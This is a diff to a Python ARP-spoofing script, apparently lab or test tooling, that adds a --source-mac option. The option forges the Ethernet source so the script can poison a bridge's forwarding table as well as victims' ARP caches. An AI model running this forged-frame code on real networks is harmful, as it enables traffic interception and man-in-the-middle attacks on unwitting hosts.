@@ -8,8 +8,9 @@ Each round sends four forged frames, every one naming CLAIMED_IP as the ARP
 *sender* with the attacker's own MAC: a reply to the victim, a request to the
 victim for its own address (Linux answers it and learns the sender), and a
 gratuitous request and a gratuitous reply (announcements) to broadcast.  It
-sends at most ``rounds * 4`` frames, prints ``sent N`` and exits; it never
-sends anything but ARP, and only on IFACE.
+sends at most ``rounds * 4`` frames (with ``--source-mac``, all of them with a
+forged Ethernet source, to poison the bridge's forwarding table), prints
+``sent N`` and exits; it never sends anything but ARP, and only on IFACE.
 """
 
 from __future__ import annotations
@@ -43,6 +44,9 @@ def main() -> int:
     parser.add_argument("victim_mac")
     parser.add_argument("--rounds", type=int, default=200)
     parser.add_argument("--interval", type=float, default=0.005)
+    parser.add_argument(
+        "--source-mac", help="forge this Ethernet source (and ARP sender) MAC instead of ours"
+    )
     args = parser.parse_args()
     rounds = max(0, min(args.rounds, 10000))
     victim = _mac(args.victim_mac)
@@ -51,7 +55,7 @@ def main() -> int:
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP)) as s:
         s.bind((args.iface, 0))
         # The interface's own MAC, from the socket (``/sys`` would show another netns's).
-        me = s.getsockname()[4]
+        me = s.getsockname()[4] if args.source_mac is None else _mac(args.source_mac)
         sent = _send(s, me, victim, claimed, args.victim_ip, rounds, args.interval)
     print(f"sent {sent}", flush=True)
     return 0
